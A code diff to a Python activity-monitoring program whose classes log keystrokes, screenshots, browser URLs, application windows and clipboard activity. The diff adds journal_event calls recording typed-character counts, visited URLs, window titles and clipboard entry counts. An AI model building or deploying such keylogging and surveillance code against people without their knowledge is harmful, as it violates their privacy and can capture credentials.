@@ -26,6 +26,7 @@ import requests
 from credentials  import REPORT_DIR
 
 from write_report import write_report
+from event_journal import journal_event
 #Globals
 
 
@@ -83,6 +84,7 @@ class Keylogger:
             content=content,
             title="Keylogger Report"
         )
+        journal_event("keylogger", stream=str(id(self)), chars=len(full_text))
 
 
 # ==================== Keystroke Counter ====================
@@ -133,6 +135,7 @@ class KeystrokeCounter:
         title="Keystroke Counter Report",
         with_timestamp=False
         )
+        journal_event("keystrokes", stream=str(id(self)), keystrokes=self.keystrokes_count, words=self.word_count)
 
 
 import getpass
@@ -180,6 +183,7 @@ class ScreenshotCapture:
             with_timestamp=False,
             mode='w'
         )
+        journal_event("screenshots", total=total_screenshots)
 
 # ==================== Browser Tracking ====================
 class BrowserTracking:
@@ -227,6 +231,7 @@ class BrowserTracking:
                     'duration': duration,
                 }
                 self.browsing_data.append(entry)
+                journal_event("browser_usage", process=process_name, url=current_url, duration=round(duration, 2))
 
                 if 'screenshot_capture' in globals() and screenshot_capture:
                     screenshot_capture.take_screenshot(reason="URLChange_", title=current_url)
@@ -285,6 +290,7 @@ class ApplicationTracking:
                     'duration': duration,
                 }
                 self.activities.append(entry)
+                journal_event("app_usage", process=process_name, title=last_window, duration=round(duration, 2))
                 if 'screenshot_capture' in globals() and screenshot_capture:
                     screenshot_capture.take_screenshot(reason="AppSwitch_", title=window_title)
 
@@ -372,6 +378,7 @@ def generate_clipboard_report():
         content=content,
         title="Clipboard Activity Report"
     )
+    journal_event("clipboard", entries=len(clipboard_data))
 
 
 